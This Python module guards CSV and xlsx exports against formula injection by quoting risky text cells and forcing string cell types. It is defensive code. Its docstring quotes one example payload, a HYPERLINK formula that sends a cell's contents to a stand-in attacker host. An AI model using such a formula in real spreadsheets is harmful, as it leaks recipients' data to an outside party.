"""Spreadsheet cells that stay text: no formula injection through CSV or Excel exports.

A reporter's description such as ``=HYPERLINK("http://evil.example/?"&A1,"查看照片")`` must reach a leader's
spreadsheet as the literal text it is, never as a live formula. Every CSV and xlsx writer goes through here:

- CSV (OWASP "CSV injection"): a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage
  return or a line feed gets a leading single quote, so the spreadsheet shows it as text. Numbers stay
  numbers, and so does text that is only a number (``-3``, ``+0.5``): harmless as they are.
- xlsx (openpyxl): every text value is written as an explicit string cell (``data_type == "s"``), which Excel
  never evaluates, whatever it starts with. Characters that XML cannot carry (control characters) become
  U+FFFD instead of failing the whole export.

Pure functions: no database, no web objects.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

# Characters a spreadsheet reads as the start of a formula (or that hide one on the next line / column).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """``text`` made safe for a CSV cell: a quote in front of anything that could start a formula."""
    if text.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_value(value: Any) -> Any:
    """A value for ``csv.writer``: None → empty, text neutralised, numbers and everything else unchanged."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(v) for v in values]


def xlsx_text(text: str) -> str:
    """Text without the control characters that openpyxl (and the XML underneath) refuses."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)


def _as_string(cell: Cell | WriteOnlyCell, value: Any) -> None:
    cell.value = xlsx_text(value)
    cell.data_type = "s"  # after the value: openpyxl guesses "f" for text that starts with "="


def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """``ws.cell(row, column, value)``, except that text is always a string cell, never a formula."""
    cell = ws.cell(row=row, column=column)
    if isinstance(value, str):
        _as_string(cell, value)
    else:
        cell.value = value
    return cell


def write_only_row(ws: Worksheet, values: Iterable[Any]) -> list[Any]:
    """A row for ``ws.append`` of a write-only workbook, with text as string cells."""
    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(ws)
            _as_string(cell, value)
            row.append(cell)
        else:
            row.append(value)
    return row
